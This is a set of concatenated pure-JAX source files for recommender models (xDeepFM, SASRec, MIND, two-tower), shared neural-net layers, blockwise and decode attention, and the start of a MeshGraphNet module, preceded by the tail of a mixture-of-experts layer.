        buf = buf[:-1].reshape(e_local, capacity, d)

        h = jnp.einsum("ecd,edf->ecf", buf, wg)
        u = jnp.einsum("ecd,edf->ecf", buf, wu)
        y = jnp.einsum("ecf,efd->ecd", act(h) * u, wd)

        y_flat = y.reshape(e_local * capacity, d)
        gathered = jnp.where(
            keep[:, None],
            y_flat[jnp.clip(dest, 0, e_local * capacity - 1)],
            jnp.zeros((1, d), y_flat.dtype))
        contrib = gathered * sg[:, None].astype(gathered.dtype)
        out = jnp.zeros((tl, d), jnp.float32).at[st].add(
            contrib.astype(jnp.float32))
        # combine across expert shards; psum in the compute dtype halves
        # the dominant MoE wire term (top-2 partial sums per token — bf16
        # rounding of two-term sums is standard EP practice)
        out = jax.lax.psum(out.astype(xs.dtype), expert_axis)
        return out, aux

    from ..jax_compat import shard_map
    out, aux = shard_map(
        inner,
        in_specs=(xp, P(None, None), wg_spec, wg_spec, wd_spec),
        out_specs=(xp, P()),
        check_vma=False)(x, w["router"], w["w_gate"], w["w_up"],
                         w["w_down"])
    return out, aux
