"""RecSys model family: xDeepFM, SASRec, MIND, two-tower retrieval.

JAX has no native EmbeddingBag or CSR sparse — the embedding lookup path is
built here from ``jnp.take`` + ``jax.ops.segment_sum`` (and the Pallas
kernel in kernels/embedding_bag accelerates the fixed-bag fast path).
Tables are stored as ONE concatenated (sum_vocab, D) matrix with per-field
row offsets so the whole lookup is a single gather; rows shard over the
'model' mesh axis (the huge_embedding axis).

Shapes contract (see configs/): every model exposes
  loss(params, batch)                          -- training
  serve_scores(params, batch)                  -- pointwise scoring
  retrieval_scores(params, batch)              -- 1 query vs n_candidates
"""
from __future__ import annotations

from dataclasses import dataclass, field

import jax
import jax.numpy as jnp

from .layers import mlp_apply, mlp_init, rms_norm


# ------------------------------------------------------------ embedding ops
def embedding_bag(table, idx, *, mask=None, mode: str = "sum"):
    """table (V, D); idx (..., bag) int32; mask (..., bag) or None.
    Fixed-size-bag EmbeddingBag: gather + masked reduce.  This is the
    jnp reference; kernels/embedding_bag provides the Pallas TPU version."""
    e = jnp.take(table, idx, axis=0)                 # (..., bag, D)
    if mask is not None:
        e = e * mask[..., None].astype(e.dtype)
    if mode == "sum":
        return e.sum(axis=-2)
    if mode == "mean":
        den = (mask.sum(-1, keepdims=True) if mask is not None
               else jnp.float32(idx.shape[-1]))
        return e.sum(axis=-2) / jnp.maximum(den, 1.0)
    raise ValueError(mode)


def embedding_bag_ragged(table, indices, segment_ids, n_bags: int):
    """Ragged EmbeddingBag via segment_sum (taxonomy §B.6): indices (nnz,),
    segment_ids (nnz,) sorted bag ids."""
    rows = jnp.take(table, indices, axis=0)
    return jax.ops.segment_sum(rows, segment_ids, n_bags)


def _field_offsets(vocab_sizes):
    import numpy as np
    off = np.zeros(len(vocab_sizes), np.int32)
    off[1:] = np.cumsum(vocab_sizes)[:-1]
    return jnp.asarray(off)


# ----------------------------------------------------------------- xDeepFM
@dataclass(frozen=True)
class XDeepFMConfig:
    name: str = "xdeepfm"
    n_sparse: int = 39
    vocab_per_field: int = 1_000_000
    embed_dim: int = 10
    cin_layers: tuple = (200, 200, 200)
    mlp_sizes: tuple = (400, 400)
    dtype: str = "float32"

    @property
    def total_vocab(self) -> int:
        return self.n_sparse * self.vocab_per_field

    def param_count(self) -> int:
        n = self.total_vocab * (self.embed_dim + 1)   # embed + wide
        m = self.n_sparse
        h_prev = m
        for h in self.cin_layers:
            n += h_prev * m * h
            h_prev = h
        sizes = [m * self.embed_dim] + list(self.mlp_sizes) + [1]
        n += sum(sizes[i] * sizes[i + 1] + sizes[i + 1]
                 for i in range(len(sizes) - 1))
        n += sum(self.cin_layers) + 1
        return n


def xdeepfm_init(cfg: XDeepFMConfig, rng):
    dt = jnp.dtype(cfg.dtype)
    ks = jax.random.split(rng, 8)
    m, d = cfg.n_sparse, cfg.embed_dim
    cin = []
    h_prev = m
    for i, h in enumerate(cfg.cin_layers):
        cin.append((jax.random.normal(ks[2], (h_prev * m, h), jnp.float32)
                    * (h_prev * m) ** -0.5).astype(dt))
        h_prev = h
    return {
        "table": (jax.random.normal(ks[0], (cfg.total_vocab, d), jnp.float32)
                  * 0.01).astype(dt),
        "wide": jnp.zeros((cfg.total_vocab,), dt),
        "cin": cin,
        "cin_out": jnp.zeros((sum(cfg.cin_layers),), dt),
        "dnn": mlp_init(ks[3], [m * d] + list(cfg.mlp_sizes) + [1],
                        jnp.float32),
        "bias": jnp.zeros((), dt),
    }


def xdeepfm_logits(cfg: XDeepFMConfig, params, idx):
    """idx (B, n_sparse) per-field ids (field-local)."""
    abs_idx = idx + _field_offsets(
        [cfg.vocab_per_field] * cfg.n_sparse)[None, :]
    e = jnp.take(params["table"], abs_idx, axis=0)       # (B, m, D)
    wide = jnp.take(params["wide"], abs_idx, axis=0).sum(-1)
    # CIN (compressed interaction network)
    x0, xk = e, e
    pooled = []
    for w in params["cin"]:
        z = jnp.einsum("bhd,bmd->bhmd", xk, x0)
        b, h, m, d = z.shape
        xk = jnp.einsum("bpd,ph->bhd", z.reshape(b, h * m, d), w)
        pooled.append(xk.sum(-1))                        # (B, H_k)
    cin_out = jnp.concatenate(pooled, -1) @ params["cin_out"]
    dnn_out = mlp_apply(params["dnn"], e.reshape(e.shape[0], -1),
                        act=jax.nn.relu)[..., 0]
    return wide + cin_out + dnn_out + params["bias"]


def xdeepfm_loss(cfg: XDeepFMConfig, params, batch):
    logits = xdeepfm_logits(cfg, params, batch["idx"]).astype(jnp.float32)
    y = batch["label"].astype(jnp.float32)
    loss = jnp.mean(jnp.maximum(logits, 0) - logits * y
                    + jnp.log1p(jnp.exp(-jnp.abs(logits))))
    return loss, logits


def xdeepfm_retrieval(cfg: XDeepFMConfig, params, batch):
    """Bulk-score n_candidates items for ONE user context: the candidate id
    replaces field 0; other fields broadcast."""
    idx = jnp.broadcast_to(batch["idx"], (batch["cand"].shape[0],
                                          cfg.n_sparse)).at[:, 0] \
        .set(batch["cand"])
    return xdeepfm_logits(cfg, params, idx)


# ------------------------------------------------------------------ SASRec
@dataclass(frozen=True)
class SASRecConfig:
    name: str = "sasrec"
    n_items: int = 1_000_000
    embed_dim: int = 50
    n_blocks: int = 2
    n_heads: int = 1
    seq_len: int = 50
    dtype: str = "float32"

    def param_count(self) -> int:
        d = self.embed_dim
        per_block = 4 * d * d + 2 * (d * d + d) + 2 * d
        return (self.n_items + self.seq_len) * d \
            + self.n_blocks * per_block + d


def sasrec_init(cfg: SASRecConfig, rng):
    dt = jnp.dtype(cfg.dtype)
    ks = jax.random.split(rng, 4 + 4 * cfg.n_blocks)
    d = cfg.embed_dim

    def w(k, shape, fan):
        return (jax.random.normal(k, shape, jnp.float32)
                * fan ** -0.5).astype(dt)

    blocks = []
    for i in range(cfg.n_blocks):
        o = 4 + 4 * i
        blocks.append({
            "wq": w(ks[o], (d, d), d), "wk": w(ks[o + 1], (d, d), d),
            "wv": w(ks[o + 2], (d, d), d), "wo": w(ks[o + 3], (d, d), d),
            "ffn_w1": w(ks[o], (d, d), d), "ffn_b1": jnp.zeros((d,), dt),
            "ffn_w2": w(ks[o + 1], (d, d), d), "ffn_b2": jnp.zeros((d,), dt),
            "ln1": jnp.zeros((d,), dt), "ln2": jnp.zeros((d,), dt),
        })
    return {
        "item_emb": w(ks[0], (cfg.n_items, d), 20),
        "pos_emb": w(ks[1], (cfg.seq_len, d), 20),
        "ln_f": jnp.zeros((d,), dt),
        "blocks": blocks,
    }


def sasrec_encode(cfg: SASRecConfig, params, seq):
    """seq (B, L) item ids (0 = padding) -> (B, L, D) causal states."""
    b, l = seq.shape
    d = cfg.embed_dim
    x = jnp.take(params["item_emb"], seq, axis=0) * (d ** 0.5) \
        + params["pos_emb"][None, :l]
    pad = (seq == 0)
    causal = jnp.tril(jnp.ones((l, l), bool))
    mask = causal[None] & ~pad[:, None, :]
    for blk in params["blocks"]:
        h = rms_norm(x, blk["ln1"])
        q = (h @ blk["wq"]).reshape(b, l, cfg.n_heads, -1)
        k = (h @ blk["wk"]).reshape(b, l, cfg.n_heads, -1)
        v = (h @ blk["wv"]).reshape(b, l, cfg.n_heads, -1)
        s = jnp.einsum("bqhd,bkhd->bhqk", q, k) / (q.shape[-1] ** 0.5)
        s = jnp.where(mask[:, None], s, -1e30)
        p = jax.nn.softmax(s, axis=-1)
        o = jnp.einsum("bhqk,bkhd->bqhd", p, v).reshape(b, l, d)
        x = x + o @ blk["wo"]
        h2 = rms_norm(x, blk["ln2"])
        x = x + jax.nn.relu(h2 @ blk["ffn_w1"] + blk["ffn_b1"]) \
            @ blk["ffn_w2"] + blk["ffn_b2"]
    return rms_norm(x, params["ln_f"]) * (~pad)[..., None].astype(x.dtype)


def sasrec_loss(cfg: SASRecConfig, params, batch):
    """BCE over (positive next item, sampled negative) — the paper's
    objective.  batch: seq (B, L), pos (B, L), neg (B, L)."""
    h = sasrec_encode(cfg, params, batch["seq"])
    pe = jnp.take(params["item_emb"], batch["pos"], axis=0)
    ne = jnp.take(params["item_emb"], batch["neg"], axis=0)
    sp = jnp.sum(h * pe, -1).astype(jnp.float32)
    sn = jnp.sum(h * ne, -1).astype(jnp.float32)
    m = (batch["pos"] != 0).astype(jnp.float32)
    loss = -(jnp.log(jax.nn.sigmoid(sp) + 1e-24)
             + jnp.log(1 - jax.nn.sigmoid(sn) + 1e-24)) * m
    return jnp.sum(loss) / jnp.maximum(jnp.sum(m), 1.0), sp


def sasrec_serve(cfg: SASRecConfig, params, batch):
    """Score provided candidates per request: seq (B, L), cand (B, C)."""
    h = sasrec_encode(cfg, params, batch["seq"])[:, -1]
    ce = jnp.take(params["item_emb"], batch["cand"], axis=0)
    return jnp.einsum("bd,bcd->bc", h, ce)


def sasrec_retrieval(cfg: SASRecConfig, params, batch):
    """One user vs the whole (n_candidates,) corpus — batched dot."""
    h = sasrec_encode(cfg, params, batch["seq"])[:, -1]     # (1, D)
    ce = jnp.take(params["item_emb"], batch["cand"], axis=0)  # (C, D)
    return (h @ ce.T)[0]


# -------------------------------------------------------------------- MIND
@dataclass(frozen=True)
class MINDConfig:
    name: str = "mind"
    n_items: int = 1_000_000
    embed_dim: int = 64
    n_interests: int = 4
    capsule_iters: int = 3
    seq_len: int = 50
    dtype: str = "float32"

    def param_count(self) -> int:
        d = self.embed_dim
        return self.n_items * d + d * d + 2 * (d * d + d)


def mind_init(cfg: MINDConfig, rng):
    dt = jnp.dtype(cfg.dtype)
    ks = jax.random.split(rng, 4)
    d = cfg.embed_dim
    return {
        "item_emb": (jax.random.normal(ks[0], (cfg.n_items, d), jnp.float32)
                     * 0.02).astype(dt),
        "S": (jax.random.normal(ks[1], (d, d), jnp.float32)
              * d ** -0.5).astype(dt),            # shared bilinear map
        "dnn": mlp_init(ks[2], [d, d, d], jnp.float32),
        # fixed (untrained) routing-logit init per (interest, position):
        # the paper samples these from N(0,1) once
        "b_init": jax.random.normal(ks[3], (cfg.n_interests, cfg.seq_len),
                                    jnp.float32).astype(dt),
    }


def _squash(x, axis=-1):
    n2 = jnp.sum(jnp.square(x.astype(jnp.float32)), axis=axis,
                 keepdims=True)
    return (n2 / (1 + n2) * x.astype(jnp.float32)
            / jnp.sqrt(n2 + 1e-9)).astype(x.dtype)


def mind_interests(cfg: MINDConfig, params, seq):
    """Behavior-to-Interest dynamic routing: seq (B, L) -> (B, K, D)."""
    e = jnp.take(params["item_emb"], seq, axis=0)        # (B, L, D)
    valid = (seq != 0)
    eh = e @ params["S"]                                  # (B, L, D)
    b_logit = jnp.broadcast_to(params["b_init"][None],
                               (seq.shape[0], cfg.n_interests, cfg.seq_len))
    for _ in range(cfg.capsule_iters):
        w = jax.nn.softmax(b_logit, axis=1)               # over interests
        w = w * valid[:, None, :].astype(w.dtype)
        z = jnp.einsum("bkl,bld->bkd", w, eh)
        u = _squash(z)
        b_logit = b_logit + jnp.einsum("bkd,bld->bkl", u, eh)
    u = mlp_apply(params["dnn"], u, act=jax.nn.relu) + u  # H-layer + skip
    return u                                              # (B, K, D)


def mind_loss(cfg: MINDConfig, params, batch):
    """Sampled-softmax with label-aware attention (pow 2): batch has
    seq (B, L), pos (B,), neg (B, N)."""
    u = mind_interests(cfg, params, batch["seq"])         # (B, K, D)
    pe = jnp.take(params["item_emb"], batch["pos"], axis=0)   # (B, D)
    att = jax.nn.softmax(
        jnp.einsum("bkd,bd->bk", u, pe).astype(jnp.float32) ** 2, -1)
    v_u = jnp.einsum("bk,bkd->bd", att.astype(u.dtype), u)    # (B, D)
    ne = jnp.take(params["item_emb"], batch["neg"], axis=0)   # (B, N, D)
    sp = jnp.sum(v_u * pe, -1, keepdims=True)
    sn = jnp.einsum("bd,bnd->bn", v_u, ne)
    logits = jnp.concatenate([sp, sn], -1).astype(jnp.float32)
    loss = -jax.nn.log_softmax(logits, -1)[:, 0]
    return jnp.mean(loss), logits


def mind_serve(cfg: MINDConfig, params, batch):
    """Max-over-interests scoring of per-request candidates."""
    u = mind_interests(cfg, params, batch["seq"])
    ce = jnp.take(params["item_emb"], batch["cand"], axis=0)  # (B, C, D)
    return jnp.max(jnp.einsum("bkd,bcd->bkc", u, ce), axis=1)


def mind_retrieval(cfg: MINDConfig, params, batch):
    u = mind_interests(cfg, params, batch["seq"])         # (1, K, D)
    ce = jnp.take(params["item_emb"], batch["cand"], axis=0)  # (C, D)
    return jnp.max(u[0] @ ce.T, axis=0)                   # (C,)


# ---------------------------------------------------------------- twotower
@dataclass(frozen=True)
class TwoTowerConfig:
    name: str = "two-tower-retrieval"
    embed_dim: int = 256
    tower_mlp: tuple = (1024, 512, 256)
    n_user_fields: int = 8
    n_item_fields: int = 4
    field_vocab: int = 1_000_000
    field_dim: int = 64
    n_corpus: int = 1_000_000
    temperature: float = 0.05
    dtype: str = "float32"

    def param_count(self) -> int:
        n = (self.n_user_fields + self.n_item_fields) * self.field_vocab \
            * self.field_dim
        for nf in (self.n_user_fields, self.n_item_fields):
            sizes = [nf * self.field_dim] + list(self.tower_mlp)
            n += sum(sizes[i] * sizes[i + 1] + sizes[i + 1]
                     for i in range(len(sizes) - 1))
        n += self.n_corpus * self.tower_mlp[-1]
        return n


def twotower_init(cfg: TwoTowerConfig, rng):
    dt = jnp.dtype(cfg.dtype)
    ks = jax.random.split(rng, 6)

    def table(k, fields):
        return (jax.random.normal(
            k, (fields * cfg.field_vocab, cfg.field_dim), jnp.float32)
            * 0.02).astype(dt)

    return {
        "user_table": table(ks[0], cfg.n_user_fields),
        "item_table": table(ks[1], cfg.n_item_fields),
        "user_mlp": mlp_init(ks[2], [cfg.n_user_fields * cfg.field_dim]
                             + list(cfg.tower_mlp), jnp.float32),
        "item_mlp": mlp_init(ks[3], [cfg.n_item_fields * cfg.field_dim]
                             + list(cfg.tower_mlp), jnp.float32),
        # serving-side precomputed ANN corpus (item embeddings)
        "corpus": (jax.random.normal(ks[4], (cfg.n_corpus, cfg.tower_mlp[-1]),
                                     jnp.float32) * 0.05).astype(dt),
    }


def _tower(mlp, table, offsets, idx):
    e = jnp.take(table, idx + offsets[None, :], axis=0)
    e = e.reshape(e.shape[0], -1)
    z = mlp_apply(mlp, e, act=jax.nn.relu)
    return z / jnp.maximum(jnp.linalg.norm(z.astype(jnp.float32), axis=-1,
                                           keepdims=True), 1e-6).astype(z.dtype)


def twotower_embed(cfg: TwoTowerConfig, params, batch):
    u = _tower(params["user_mlp"], params["user_table"],
               _field_offsets([cfg.field_vocab] * cfg.n_user_fields),
               batch["user_idx"])
    i = _tower(params["item_mlp"], params["item_table"],
               _field_offsets([cfg.field_vocab] * cfg.n_item_fields),
               batch["item_idx"])
    return u, i


def twotower_loss(cfg: TwoTowerConfig, params, batch):
    """In-batch sampled softmax with logQ correction (Yi et al. RecSys'19).
    batch: user_idx (B, Fu), item_idx (B, Fi), logq (B,)."""
    u, i = twotower_embed(cfg, params, batch)
    logits = (u @ i.T).astype(jnp.float32) / cfg.temperature
    logits = logits - batch["logq"][None, :]
    labels = jnp.arange(u.shape[0])
    loss = -jnp.take_along_axis(jax.nn.log_softmax(logits, -1),
                                labels[:, None], -1)[:, 0]
    return jnp.mean(loss), logits


def twotower_serve(cfg: TwoTowerConfig, params, batch):
    u, i = twotower_embed(cfg, params, batch)
    return jnp.sum(u * i, axis=-1)


def twotower_retrieval(cfg: TwoTowerConfig, params, batch):
    """One user query against the 1M-item precomputed corpus: a single
    (1, D) x (D, C) GEMV (Pallas kernels/retrieval_score fast path)."""
    u = _tower(params["user_mlp"], params["user_table"],
               _field_offsets([cfg.field_vocab] * cfg.n_user_fields),
               batch["user_idx"])                            # (1, D)
    return (u @ params["corpus"].T)[0]                       # (C,)
