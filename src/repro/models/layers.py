"""Shared neural-net layers: norms, MLPs, RoPE, initializers.

Pure-JAX (no flax): params are nested dicts of jnp arrays; every layer is
a pair (init_fn, apply_fn) so stacks can be created/vmapped/scanned freely.
"""
from __future__ import annotations

import jax
import jax.numpy as jnp
import numpy as np


def dense_init(rng, d_in: int, d_out: int, dtype=jnp.float32,
               scale: float | None = None):
    scale = scale if scale is not None else 1.0 / np.sqrt(d_in)
    return (jax.random.normal(rng, (d_in, d_out), jnp.float32) * scale
            ).astype(dtype)


def embed_init(rng, vocab: int, d: int, dtype=jnp.float32):
    return (jax.random.normal(rng, (vocab, d), jnp.float32)).astype(dtype)


def rms_norm(x, weight=None, eps: float = 1e-6):
    """RMSNorm; ``weight=None`` gives the non-parametric LN variant used by
    OLMo (normalization without learned gain/bias)."""
    x32 = x.astype(jnp.float32)
    nrm = x32 * jax.lax.rsqrt(jnp.mean(jnp.square(x32), axis=-1,
                                       keepdims=True) + eps)
    if weight is not None:
        nrm = nrm * (1.0 + weight.astype(jnp.float32))
    return nrm.astype(x.dtype)


def layer_norm_nonparam(x, eps: float = 1e-5):
    """Non-parametric LayerNorm (mean-centered, no gain/bias) — OLMo §3."""
    x32 = x.astype(jnp.float32)
    mu = jnp.mean(x32, axis=-1, keepdims=True)
    var = jnp.var(x32, axis=-1, keepdims=True)
    return ((x32 - mu) * jax.lax.rsqrt(var + eps)).astype(x.dtype)


def mlp_init(rng, sizes: list[int], dtype=jnp.float32) -> dict:
    ks = jax.random.split(rng, len(sizes) - 1)
    return {
        f"w{i}": dense_init(ks[i], sizes[i], sizes[i + 1], dtype)
        for i in range(len(sizes) - 1)
    } | {
        f"b{i}": jnp.zeros((sizes[i + 1],), dtype)
        for i in range(len(sizes) - 1)
    }


def mlp_apply(params: dict, x, *, act=jax.nn.relu, final_act: bool = False):
    n = len([k for k in params if k.startswith("w")])
    for i in range(n):
        x = x @ params[f"w{i}"] + params[f"b{i}"]
        if i < n - 1 or final_act:
            x = act(x)
    return x


def rope_table(positions, d_head: int, theta: float = 10000.0,
               dtype=jnp.float32):
    """(..., d_head/2) cos/sin tables for the given positions."""
    half = d_head // 2
    freqs = 1.0 / (theta ** (jnp.arange(half, dtype=jnp.float32) / half))
    ang = positions.astype(jnp.float32)[..., None] * freqs
    return jnp.cos(ang).astype(dtype), jnp.sin(ang).astype(dtype)


def apply_rope(x, cos, sin):
    """x: (..., S, H, d_head); cos/sin: (..., S, d_head/2)."""
    half = x.shape[-1] // 2
    x1, x2 = x[..., :half], x[..., half:]
    cos = cos[..., None, :]  # broadcast over heads
    sin = sin[..., None, :]
    return jnp.concatenate([x1 * cos - x2 * sin,
                            x2 * cos + x1 * sin], axis=-1).astype(x.dtype)


def softcap(logits, cap: float | None):
    """Gemma-2 logit soft-capping: cap * tanh(x / cap)."""
    if cap is None:
        return logits
    return cap * jnp.tanh(logits / cap)


def cross_entropy_loss(logits, labels, mask=None):
    """Mean CE over valid positions; logits f32-cast for stability."""
    logits = logits.astype(jnp.float32)
    logz = jax.scipy.special.logsumexp(logits, axis=-1)
    gold = jnp.take_along_axis(logits, labels[..., None], axis=-1)[..., 0]
    nll = logz - gold
    if mask is not None:
        m = mask.astype(jnp.float32)
        return jnp.sum(nll * m) / jnp.maximum(jnp.sum(m), 1.0)
    return jnp.mean(nll)
