"""Attention for the LM family: GQA, RoPE, sliding-window/global alternation,
attn-logit soft-capping, blockwise (flash-style) training attention and
KV-cache decode attention.

Memory design: training/prefill attention is computed *blockwise* (scan over
KV chunks with a running (max, sum) online softmax) so the (S x S) score
matrix never materializes — at 32k context the naive scores would be
S^2 * H * B * 2B >> HBM.  This is the XLA-level equivalent of
FlashAttention; the Pallas kernel in kernels/flash_decode further fuses the
decode path.
"""
from __future__ import annotations

import jax
import jax.numpy as jnp

from .layers import apply_rope, rope_table, softcap

NEG_INF = -2.0e38


def repeat_kv(x, n_rep: int):
    """(B, S, Hkv, D) -> (B, S, Hkv*n_rep, D) by head repetition (GQA)."""
    if n_rep == 1:
        return x
    b, s, h, d = x.shape
    return jnp.broadcast_to(x[:, :, :, None, :], (b, s, h, n_rep, d)) \
              .reshape(b, s, h * n_rep, d)


def _chunk_mask(q_pos, k_pos, *, causal: bool, window: int | None):
    """(Sq, Sk) bool mask: True = attend."""
    m = jnp.ones((q_pos.shape[0], k_pos.shape[0]), bool)
    if causal:
        m &= q_pos[:, None] >= k_pos[None, :]
    if window is not None:
        m &= q_pos[:, None] - k_pos[None, :] < window
    return m


def blockwise_attention(q, k, v, *, causal: bool = True,
                        window: int | None = None,
                        attn_softcap: float | None = None,
                        q_chunk: int = 512, kv_chunk: int = 1024,
                        q_offset: int = 0):
    """Flash-style attention, O(S*chunk) memory.

    q: (B, Sq, Hq, D); k, v: (B, Sk, Hkv, D) with Hq % Hkv == 0.
    ``q_offset``: absolute position of q[0] (for chunked prefill).
    Returns (B, Sq, Hq, D).
    """
    b, sq0, hq, d = q.shape
    sk0, hkv = k.shape[1], k.shape[2]
    n_rep = hq // hkv
    scale = d ** -0.5
    q_chunk = min(q_chunk, sq0)
    kv_chunk = min(kv_chunk, sk0)
    # pad to chunk multiples; padded kv positions are masked below via
    # k_pos >= sk0, padded q rows are sliced away at the end.
    sq = -(-sq0 // q_chunk) * q_chunk
    sk = -(-sk0 // kv_chunk) * kv_chunk
    if sq != sq0:
        q = jnp.pad(q, ((0, 0), (0, sq - sq0), (0, 0), (0, 0)))
    if sk != sk0:
        k = jnp.pad(k, ((0, 0), (0, sk - sk0), (0, 0), (0, 0)))
        v = jnp.pad(v, ((0, 0), (0, sk - sk0), (0, 0), (0, 0)))

    # (B, Hkv, G, S, D) layout: group dim keeps GQA matmuls batched.
    qh = q.reshape(b, sq, hkv, n_rep, d).transpose(0, 2, 3, 1, 4)
    kh = k.transpose(0, 2, 1, 3)  # (B, Hkv, Sk, D)
    vh = v.transpose(0, 2, 1, 3)

    nq, nk = sq // q_chunk, sk // kv_chunk
    qh = qh.reshape(b, hkv, n_rep, nq, q_chunk, d)

    def q_block(qi, q_blk):
        q_pos = q_offset + qi * q_chunk + jnp.arange(q_chunk)

        def kv_step(carry, ki):
            acc, m_run, l_run = carry
            k_blk = jax.lax.dynamic_slice_in_dim(kh, ki * kv_chunk,
                                                 kv_chunk, axis=2)
            v_blk = jax.lax.dynamic_slice_in_dim(vh, ki * kv_chunk,
                                                 kv_chunk, axis=2)
            k_pos = ki * kv_chunk + jnp.arange(kv_chunk)
            # scores: (B, Hkv, G, Qc, Kc)
            s = jnp.einsum("bhgqd,bhkd->bhgqk", q_blk, k_blk,
                           preferred_element_type=jnp.float32) * scale
            s = softcap(s, attn_softcap)
            mask = _chunk_mask(q_pos, k_pos, causal=causal, window=window)
            mask &= (k_pos < sk0)[None, :]
            s = jnp.where(mask[None, None, None], s, NEG_INF)
            m_new = jnp.maximum(m_run, jnp.max(s, axis=-1))
            p = jnp.exp(s - m_new[..., None])
            corr = jnp.exp(m_run - m_new)
            l_new = l_run * corr + jnp.sum(p, axis=-1)
            acc = acc * corr[..., None] + jnp.einsum(
                "bhgqk,bhkd->bhgqd", p.astype(v_blk.dtype), v_blk,
                preferred_element_type=jnp.float32)
            return (acc, m_new, l_new), None

        acc0 = jnp.zeros((b, hkv, n_rep, q_chunk, d), jnp.float32)
        m0 = jnp.full((b, hkv, n_rep, q_chunk), NEG_INF, jnp.float32)
        l0 = jnp.zeros((b, hkv, n_rep, q_chunk), jnp.float32)
        (acc, _, l), _ = jax.lax.scan(kv_step, (acc0, m0, l0),
                                      jnp.arange(nk))
        return acc / jnp.maximum(l[..., None], 1e-30)

    out = jax.lax.map(lambda qi: q_block(qi, qh[:, :, :, qi]),
                      jnp.arange(nq)) if nq > 1 else \
        q_block(jnp.int32(0), qh[:, :, :, 0])[None]
    # out: (nq, B, Hkv, G, Qc, D) -> (B, Sq, Hq, D)
    out = jnp.moveaxis(out, 0, 3).reshape(b, hkv, n_rep, sq, d)
    out = out.transpose(0, 3, 1, 2, 4).reshape(b, sq, hq, d)
    return out[:, :sq0].astype(q.dtype)


def decode_attention(q, k_cache, v_cache, cache_len, *,
                     window: int | None = None,
                     attn_softcap: float | None = None):
    """One-token decode: q (B, 1, Hq, D) vs cache (B, S, Hkv, D).

    ``cache_len``: number of valid cache positions (scalar int32);
    positions >= cache_len are masked.  Window masking restricts to the
    trailing ``window`` positions (sliding-window layers).
    """
    b, _, hq, d = q.shape
    s, hkv = k_cache.shape[1], k_cache.shape[2]
    n_rep = hq // hkv
    qh = q.reshape(b, hkv, n_rep, d)
    scores = jnp.einsum("bhgd,bshd->bhgs", qh, k_cache,
                        preferred_element_type=jnp.float32) * (d ** -0.5)
    scores = softcap(scores, attn_softcap)
    pos = jnp.arange(s)
    valid = pos < cache_len
    if window is not None:
        valid &= pos >= cache_len - window
    scores = jnp.where(valid[None, None, None], scores, NEG_INF)
    p = jax.nn.softmax(scores, axis=-1)
    out = jnp.einsum("bhgs,bshd->bhgd", p.astype(v_cache.dtype), v_cache,
                     preferred_element_type=jnp.float32)
    return out.reshape(b, 1, hq, d).astype(q.dtype)


def seq_parallel_attention(q, k, v, *, batch_axes, model_axis,
                           causal=True, window=None, attn_softcap=None,
                           q_chunk=512, kv_chunk=1024):
    """Sequence-parallel attention core (It. 7, EXPERIMENTS.md §Perf).

    For archs whose head counts don't divide the TP axis (arctic: 56 q /
    8 kv vs model=16) the attention core would otherwise run replicated
    on every model shard (2.6x HLO flops at train).  Here the QUERY
    sequence shards over 'model' (each shard computes its S/16 rows
    against the full K/V — a 16 MB/layer bf16 gather at S=4096), so the
    core compute splits 16-ways with the causal offset supplied per
    shard."""
    from jax.sharding import PartitionSpec as P
    sq = q.shape[1]

    def inner(q_loc, k_loc, v_loc):
        idx = jax.lax.axis_index(model_axis)
        return blockwise_attention(
            q_loc, k_loc, v_loc, causal=causal, window=window,
            attn_softcap=attn_softcap, q_chunk=q_chunk, kv_chunk=kv_chunk,
            q_offset=idx * q_loc.shape[1])

    from ..jax_compat import shard_map
    return shard_map(
        inner,
        in_specs=(P(batch_axes, model_axis, None, None),
                  P(batch_axes, None, None, None),
                  P(batch_axes, None, None, None)),
        out_specs=P(batch_axes, model_axis, None, None),
        check_vma=False)(q, k, v)


def attention_block(x, w, *, n_heads: int, n_kv_heads: int, d_head: int,
                    rope_theta: float, causal: bool = True,
                    window: int | None = None,
                    attn_softcap: float | None = None,
                    positions=None,
                    kv_cache=None, cache_len=None,
                    q_chunk: int = 512, kv_chunk: int = 1024,
                    seq_parallel=None):
    """Full attention sub-layer: qkv proj + rope + attention + out proj.

    w: dict(wq (D, Hq*Dh), wk (D, Hkv*Dh), wv, wo (Hq*Dh, D)).
    Train/prefill mode (kv_cache None): returns (out, (k, v)) — the full
    per-layer K/V for cache construction.
    Decode mode: x is (B, 1, D), kv_cache = (k_cache, v_cache) of shape
    (B, S, Hkv, D); the new token's K/V is written at ``cache_len`` and the
    updated caches are returned: (out, (k_cache', v_cache')).
    """
    b, s, _ = x.shape
    q = (x @ w["wq"]).reshape(b, s, n_heads, d_head)
    k = (x @ w["wk"]).reshape(b, s, n_kv_heads, d_head)
    v = (x @ w["wv"]).reshape(b, s, n_kv_heads, d_head)
    if positions is None:
        positions = (jnp.arange(s)[None] if kv_cache is None
                     else jnp.full((1, 1), cache_len, jnp.int32))
    cos, sin = rope_table(positions, d_head, rope_theta, dtype=jnp.float32)
    q = apply_rope(q, cos, sin)
    k = apply_rope(k, cos, sin)
    if kv_cache is None:
        if seq_parallel is not None:
            bd, ma = seq_parallel
            out = seq_parallel_attention(
                q, k, v, batch_axes=bd, model_axis=ma, causal=causal,
                window=window, attn_softcap=attn_softcap,
                q_chunk=q_chunk, kv_chunk=kv_chunk)
        else:
            out = blockwise_attention(q, k, v, causal=causal,
                                      window=window,
                                      attn_softcap=attn_softcap,
                                      q_chunk=q_chunk, kv_chunk=kv_chunk)
        new_kv = (k, v)
    else:
        k_cache, v_cache = kv_cache
        k_cache = jax.lax.dynamic_update_slice_in_dim(k_cache, k, cache_len,
                                                      axis=1)
        v_cache = jax.lax.dynamic_update_slice_in_dim(v_cache, v, cache_len,
                                                      axis=1)
        out = decode_attention(q, k_cache, v_cache, cache_len + 1,
                               window=window, attn_softcap=attn_softcap)
        new_kv = (k_cache, v_cache)
    out = out.reshape(b, s, n_heads * d_head) @ w["wo"]
    return out, new_kv
