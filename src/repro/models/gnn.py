"""MeshGraphNet (Pfaff et al., arXiv:2010.03409) in pure JAX.

Encode-process-decode with ``n_layers`` message-passing steps:
  edge update : e' = e + MLP([e, h_src, h_dst])
  node update : h' = h + MLP([h, segment_sum(e', dst)])
Aggregation is ``jax.ops.segment_sum`` over an edge-index -> node scatter —
JAX has no CSR/CSC sparse, so this gather/segment-sum pipeline IS the
message-passing implementation (see kernel taxonomy §GNN).

Graphs arrive as padded arrays: ``senders/receivers`` int32 (E,), node
features (N, d_feat), ``edge_mask`` zeroing padded edges, ``node_mask``
zeroing padded nodes.  Batched small graphs (molecule shape) are expressed
as one big disjoint graph with offset node ids.

